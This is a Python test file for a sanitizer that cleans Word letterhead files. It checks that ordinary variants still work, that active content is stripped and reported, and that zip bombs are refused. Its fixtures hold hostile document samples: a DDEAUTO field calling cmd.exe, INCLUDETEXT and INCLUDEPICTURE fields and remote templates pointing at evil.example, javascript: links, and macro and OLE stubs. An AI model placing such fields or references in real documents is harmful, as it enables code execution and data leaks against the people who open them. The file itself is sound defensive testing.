"""Letterheads: every real Word file works, nothing active stays, and what was taken out is named."""

from __future__ import annotations

import io
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from functools import cache

import docx
import pytest

from samskab.documents.letterhead.client import Letterhead, read_letterhead
from samskab.documents.letterhead.package import TooLargeError, cleaned_package
from samskab.documents.sample import sample_letter
from samskab.documents.writers.docx import to_docx
from samskab.finding import Finding
from tests.documents.letterhead.word_files import (
    OFFICE,
    Change,
    field,
    in_body,
    in_header,
    packed,
    picture,
    plain_parts,
    related,
    replaced,
    strict,
    unpacked,
    with_part,
    without,
)
from tests.paths import ROOT
from tests.sampling import sampled

PATH = "layouts/letterhead.docx"
DOCUMENT, STYLES, HEADER = "word/document.xml", "word/styles.xml", "word/header1.xml"
SETTINGS = "word/settings.xml"
SECTION = r"<w:sectPr.*?</w:sectPr>"
HEADING_1 = r'<w:style w:type="paragraph"( w:styleId="Heading1">)'
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"


PLAIN = cache(plain_parts)


def changed(*changes: Change) -> bytes:
    parts = dict(PLAIN())
    for change in changes:
        change(parts)
    return packed(parts)


def letter_in(cleaned: bytes) -> dict[str, bytes]:
    """The parts of a letter in a letterhead that is cleaned; it can be opened and holds the sample's words."""
    made = to_docx(sample_letter(), letterhead=cleaned)
    document = docx.Document(io.BytesIO(made))
    assert any(paragraph.text == "Samskab" for paragraph in document.paragraphs)
    for known in ([each.name for each in document.styles], [each.style_id for each in document.styles]):
        assert len({*known}) == len(known), "Word opens no file in which two styles have one name or key"
    return unpacked(made)


USUAL: dict[str, tuple[Change, ...]] = {
    "plain": (),
    "strict": (strict,),
    "no numbering": (without("word/numbering.xml"),),
    "no styles": (without(STYLES),),
    "no settings": (without(SETTINGS),),
    "no theme": (without("word/theme/theme1.xml"),),
    "no font table": (without("word/fontTable.xml"),),
    "no core properties": (without("docProps/core.xml"),),
    "no app properties": (without("docProps/app.xml"),),
    "nothing but the document": (
        without(STYLES, SETTINGS, "word/numbering.xml", "word/theme/theme1.xml", "word/fontTable.xml"),
    ),
    "odd core properties": (replaced("docProps/core.xml", "<dcterms:created.*?</dcterms:created>", "<dcterms:x/>"),),
    "empty core properties": (with_part("docProps/core.xml", b""),),
    "broken core properties": (with_part("docProps/core.xml", b"<a"),),
    "no section": (replaced(DOCUMENT, SECTION, ""),),
    "empty section": (replaced(DOCUMENT, SECTION, "<w:sectPr/>"),),
    "section without page size": (replaced(DOCUMENT, r"<w:pgSz[^>]*/>", ""),),
    "section without margins": (replaced(DOCUMENT, r"<w:pgMar[^>]*/>", ""),),
    "page size with decimals": (replaced(DOCUMENT, r"<w:pgSz[^>]*/>", '<w:pgSz w:w="11909.4488" w:h="16834.3"/>'),),
    "page size in points": (replaced(DOCUMENT, r"<w:pgSz[^>]*/>", '<w:pgSz w:w="595.30pt" w:h="841.90pt"/>'),),
    "page size in words": (replaced(DOCUMENT, r"<w:pgSz[^>]*/>", '<w:pgSz w:w="bred" w:h=""/>'),),
    "margins in millimetres": (replaced(DOCUMENT, r'w:left="\d+"', 'w:left="25mm"'),),
    "enormous margins": (replaced(DOCUMENT, r'w:left="\d+"', 'w:left="99999999999"'),),
    "two sections": (
        in_body('<w:p><w:pPr><w:sectPr><w:pgSz w:w="16838" w:h="11906"/></w:sectPr></w:pPr></w:p>'),
    ),
    "section in the middle": (replaced(DOCUMENT, "</w:body>", "<w:p/></w:body>"),),
    "empty body": (replaced(DOCUMENT, r"<w:body>.*</w:body>", "<w:body/>"),),
    "no body": (replaced(DOCUMENT, r"<w:body>.*</w:body>", ""),),
    "body of a table": (in_body("<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>"),),
    "no place for the letter": (replaced(DOCUMENT, r"\[brev\]", ""),),
    "heading of another name": (replaced(STYLES, '<w:name w:val="heading 1"/>', '<w:name w:val="Overskrift 1"/>'),),
    "heading of another kind": (replaced(STYLES, HEADING_1, '<w:style w:type="character" w:styleId="Heading1">'),),
    "own style of another kind": (
        replaced(STYLES, "</w:styles>",
                 '<w:style w:type="character" w:styleId="sc"><w:name w:val="Samskab Cell"/></w:style>'
                 '<w:style w:type="table" w:styleId="SamskabSamskabSamskabCell"><w:name w:val="Samskab Samskab Cell"/>'
                 "</w:style></w:styles>"),
    ),
    "style without name": (replaced(STYLES, "</w:styles>", '<w:style w:styleId="q"/></w:styles>'),),
    "style without key": (
        replaced(STYLES, "</w:styles>", '<w:style w:type="paragraph"><w:name w:val="q"/></w:style></w:styles>'),
    ),
    "Danish style keys": (replaced(STYLES, 'w:styleId="Heading1"', 'w:styleId="Overskrift1"'),),
    "comments": (
        with_part("word/comments.xml", b"<x/>"), related(DOCUMENT, "comments", "comments.xml"),
        in_body('<w:p><w:commentRangeStart w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>'),
    ),
    "custom XML": (with_part("customXml/item1.xml", b"<x/>"), related(DOCUMENT, "customXml", "../customXml/item1.xml")),
    "footnotes": (
        with_part("word/footnotes.xml", f'<w:footnotes xmlns:w="{OFFICE}"/>'.encode()),
        related(DOCUMENT, "footnotes", "footnotes.xml"),
    ),
    "relationship to nothing": (related(DOCUMENT, "header", "header9.xml"),),
    "absolute targets": (replaced("word/_rels/document.xml.rels", 'Target="styles.xml"', 'Target="/word/styles.xml"'),),
    "picture of 2 MB": (with_part("word/media/image1.png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8_000),),
    "SVG beside its PNG": (
        with_part("word/media/logo.svg", b"<svg/>"), related(HEADER, "image", "media/logo.svg"),
        in_header(f'<w:p><w:r><w:drawing><a:ext xmlns:a="a"><b:svgBlip xmlns:b="b" xmlns:r="{OFFICE}" r:embed="rIdX"/>'
                  "</a:ext></w:drawing></w:r></w:p>"),
    ),
    "UTF-16": (
        lambda parts: parts.update({DOCUMENT: parts[DOCUMENT].decode().split("?>", 1)[1].encode("utf-16")}),
    ),
    "tracked changes": (in_body('<w:p><w:ins w:id="1" w:author="x"><w:r><w:t>Ny</w:t></w:r></w:ins></w:p>'),),
    "page numbers": (in_header("".join(map(field, (' PAGE \\* MERGEFORMAT ', "NUMPAGES", 'DATE \\@ "d. MMMM"')))),),
    "ordinary link": (
        related(HEADER, "hyperlink", "https://www.kommune.example/", external=True),
        in_header(f'<w:p><w:hyperlink xmlns:r="{OFFICE}" r:id="rIdX"><w:r><w:t>vej</w:t></w:r></w:hyperlink></w:p>'),
    ),
}  # fmt: skip

ACTIVE: dict[str, tuple[str, str, tuple[Change, ...]]] = {
    "remote template": ("outside", "https://evil.example/t.dotm", (
        related(SETTINGS, "attachedTemplate", "https://evil.example/t.dotm", external=True),
        replaced(SETTINGS, "</w:settings>", f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rIdX"/></w:settings>'),
    )),
    "remote picture": ("outside", "https://evil.example/x.png", (
        related(HEADER, "image", "https://evil.example/x.png", external=True),
        in_header(picture("link")),
    )),
    "picture of an old drawing": ("", "", (
        in_header('<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.example/x"/>'
                  "</w:pict></w:r></w:p>"),
    )),
    "linked object": ("outside", "https://evil.example/o.xlsx", (
        related(DOCUMENT, "oleObject", "https://evil.example/o.xlsx", external=True),
        in_body('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" '
                f'xmlns:r="{OFFICE}" r:id="rIdX"/></w:object></w:r></w:p>'),
    )),
    "script link": ("outside", "javascript:alert(1)", (
        related(HEADER, "hyperlink", "javascript:alert(1)", external=True),
        in_header(f'<w:p><w:hyperlink xmlns:r="{OFFICE}" r:id="rIdX"><w:r><w:t>vej</w:t></w:r></w:hyperlink></w:p>'),
    )),
    "DDE": ("field", "DDEAUTO", (in_header(field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')),)),
    "DDE in one element": ("field", "DDEAUTO", (
        in_body('<w:p><w:fldSimple w:instr="DDEAUTO cmd calc"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),
    )),
    "DDE made by another field": ("field", "PAGE", (
        in_body('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE </w:instrText></w:r>'
                + field("QUOTE DDEAUTO").removeprefix("<w:p>").removesuffix("</w:p>")
                + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    )),
    "included text": ("field", "INCLUDETEXT", (in_header(field('INCLUDETEXT "\\\\\\\\evil.example\\\\x"')),)),
    "included picture": ("field", "INCLUDEPICTURE", (in_header(field('INCLUDEPICTURE "http://evil.example/x" \\d')),)),
    "field without end": ("field", "INCLUDETEXT", (
        in_body('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                '<w:r><w:instrText>INCLUDETEXT evil.example</w:instrText></w:r></w:p>'),
    )),
    "script link in a field": ("field", "HYPERLINK", (in_body(field('HYPERLINK "javascript:alert(1)"')),)),
    "embedded program": ("part", "word/embeddings/oleObject1.bin", (
        with_part("word/embeddings/oleObject1.bin", b"MZ"), related(DOCUMENT, "oleObject", "embeddings/oleObject1.bin"),
        in_body('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
                f'xmlns:r="{OFFICE}" r:id="rIdX"/></w:object></w:r></w:p>'),
    )),
    "program as a picture": ("part", "word/media/logo.png", (
        with_part("word/media/logo.png", b"MZ"), related(HEADER, "image", "media/logo.png"),
        in_header(picture("embed")),
    )),
    "ActiveX": ("part", "word/activeX/activeX1.xml", (
        with_part("word/activeX/activeX1.xml", b"<x/>"), related(DOCUMENT, "control", "activeX/activeX1.xml"),
        in_body(f'<w:p><w:r><w:control xmlns:r="{OFFICE}" r:id="rIdX" w:name="evil"/></w:r></w:p>'),
    )),
    "another document": ("part", "word/afchunk.mht", (
        with_part("word/afchunk.mht", b"evil"), related(DOCUMENT, "aFChunk", "afchunk.mht"),
        in_body(f'<w:altChunk xmlns:r="{OFFICE}" r:id="rIdX"/>'),
    )),
    "buttons of its own": ("part", "customUI/customUI.xml", (
        with_part("customUI/customUI.xml", b'<customUI onLoad="evil"/>'),
        related("", f"{MICROSOFT}/ui/extensibility", "customUI/customUI.xml"),
    )),
    "macros": ("part", "word/vbaProject.bin", (
        with_part("word/vbaProject.bin", b"evil"), related(DOCUMENT, f"{MICROSOFT}/vbaProject", "vbaProject.bin"),
    )),
    "macros under another name": ("part", "word/evil.xml", (
        with_part("word/evil.xml", b"evil"), related(DOCUMENT, f"{MICROSOFT}/vbaProject", "evil.xml"),
    )),
    "mail merge": ("outside", "file:///evil.mdb", (
        related(SETTINGS, "mailMergeSource", "file:///evil.mdb", external=True),
        replaced(SETTINGS, "</w:settings>",
                 f'<w:mailMerge><w:dataSource xmlns:r="{OFFICE}" r:id="rIdX"/></w:mailMerge></w:settings>'),
    )),
    "form field with a macro": ("", "", (
        in_body('<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="evil"/></w:ffData>'
                "</w:fldChar></w:r><w:r><w:instrText>PAGE</w:instrText></w:r>"
                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    )),
    "video": ("", "", (
        in_body('<w:p><w:r><w:drawing><b:webVideoPr xmlns:b="b" embeddedHtml="evil"/></w:drawing></w:r></w:p>'),
    )),
}  # fmt: skip


@pytest.mark.parametrize("kind", sampled(USUAL, 15))
def test_a_real_word_file_carries_letters(kind: str) -> None:
    cleaned, removed = cleaned_package(changed(*USUAL[kind]))
    assert removed == ()
    parts = letter_in(cleaned)
    if kind not in {"no section", "empty section", "empty body", "no body"}:  # they have no header any more
        assert any(b"Kontorets brevhoved" in part for name, part in parts.items() if "header" in name)


@pytest.mark.parametrize("kind", sampled(ACTIVE, 8))
def test_nothing_active_stays(kind: str) -> None:
    reason, what, changes = ACTIVE[kind]
    cleaned, removed = cleaned_package(changed(*changes))
    assert ([tuple(each) for each in removed] or [("", "")])[0] == (reason, what)
    parts = letter_in(cleaned)
    everything = b"".join(parts.values())
    assert not re.search(rb"evil|javascript:|DDEAUTO|INCLUDE", everything)
    assert b"MZ" not in parts.values()
    assert not re.search(rb"OLEObject|altChunk|w:control|attachedTemplate|mailMerge|vbaProject|ffData", everything)
    assert any(b"Kontorets brevhoved" in part for part in parts.values())
    references = {key for part in parts.values() for key in re.findall(rb'r:(?:id|embed|link)="([^"]+)"', part)}
    known = {
        key for name, part in parts.items() if name.endswith(".rels") for key in re.findall(rb' Id="([^"]+)"', part)
    }
    assert references <= known


def test_a_field_that_is_taken_out_leaves_its_text() -> None:
    parts = letter_in(cleaned_package(changed(in_header(field("INCLUDETEXT x", "Torvet 1"))))[0])
    assert any(b"Torvet 1" in part for name, part in parts.items() if "header" in name)


def test_page_numbers_and_pictures_stay() -> None:
    parts = letter_in(cleaned_package(changed(*USUAL["page numbers"]))[0])
    header = next(part for name, part in parts.items() if re.fullmatch(r"word/header\d*.xml", name))
    assert header.count(b"<w:instrText") == 6
    assert b"r:embed" in header
    assert any(name.startswith("word/media/") for name in parts)


def test_the_same_letterhead_gives_the_same_bytes() -> None:
    one, other = (cleaned_package(changed())[0] for _ in range(2))
    assert one == other
    assert to_docx(sample_letter(), letterhead=one) == to_docx(sample_letter(), letterhead=other)


def test_what_was_taken_out_is_named() -> None:
    read = read_letterhead(changed(*ACTIVE["macros"][2], *ACTIVE["DDE"][2], *ACTIVE["remote picture"][2]), PATH)
    assert isinstance(read, Letterhead)
    assert sorted((each.code, each.values["what"]) for each in read.findings) == [
        ("SK662", "DDEAUTO"),
        ("SK663", "https://evil.example/x.png"),
        ("SK664", "word/vbaProject.bin"),
    ]


NO_WORD: dict[str, Callable[[], bytes]] = {
    "entities": lambda: changed(replaced(DOCUMENT, r"<\?xml.*?\?>", '<!DOCTYPE x [<!ENTITY a "aaaa">]>')),
    "empty": bytes,
    "text": lambda: b"nej",
    "no document": lambda: packed({"[Content_Types].xml": b"<x/>"}),
    "zip": lambda: packed({"a.txt": b"PK"}),
    "old Word": lambda: b"\xd0\xcf\x11\xe0" + bytes(600),
    "broken": lambda: changed(replaced(DOCUMENT, "<w:body>", "<w:body")),
    "no Word": lambda: changed(replaced(DOCUMENT, "w:document", "w:workbook")),
    "cut": lambda: changed()[:-200],
}


@pytest.mark.parametrize("kind", sampled(NO_WORD, 5))
def test_a_file_that_is_no_word_document_is_one_finding(kind: str) -> None:
    refused = read_letterhead(NO_WORD[kind](), PATH)
    assert isinstance(refused, Finding)
    assert (refused.code, refused.span.path) == ("SK637", PATH)


def attributes(count: int) -> str:
    return "<w:p " + "".join(f'a{number}="" ' for number in range(count)) + "/>"


def paragraphs(count: int) -> bytes:
    return changed(in_body("<w:p/>" * count))


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(lambda: paragraphs(210_000), id="paragraphs", marks=pytest.mark.slow),
        pytest.param(lambda: changed(in_body(attributes(210_000))), id="attributes", marks=pytest.mark.slow),
        pytest.param(lambda: changed(with_part(DOCUMENT, b" " * 20_000_000)), id="blanks"),
        pytest.param(lambda: packed({f"{number}": b"" for number in range(2_100)}), id="entries"),
    ],
)  # fmt: skip
def test_a_bomb_is_refused_before_it_is_parsed(content) -> None:
    with pytest.raises(TooLargeError):
        cleaned_package(content())


@pytest.mark.slow
def test_an_unused_part_is_not_even_unpacked() -> None:
    assert cleaned_package(changed(with_part("word/bomb.xml", b" " * 20_000_000)))


@pytest.mark.slow
def test_the_costliest_letterhead_that_is_allowed_stays_small() -> None:
    """300 MB are enough for 130,000 elements."""
    program = (
        "import resource;"
        "from tests.documents.letterhead.test_client import Letterhead, PATH, paragraphs, read_letterhead;"
        "assert isinstance(read_letterhead(paragraphs(130_000), PATH), Letterhead);"
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)"
    )
    done = subprocess.run([sys.executable, "-c", program], cwd=ROOT, capture_output=True, text=True, check=True)
    assert int(done.stdout) < 300 * 1024


def test_a_zip_that_lies_about_its_size_is_refused() -> None:
    content = bytearray(changed(with_part(DOCUMENT, b" " * 20_000_000)))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        true = archive.getinfo(DOCUMENT).file_size
    lie = bytes(content).replace(true.to_bytes(4, "little"), (100).to_bytes(4, "little"))
    refused = read_letterhead(lie, PATH)
    assert isinstance(refused, Finding)
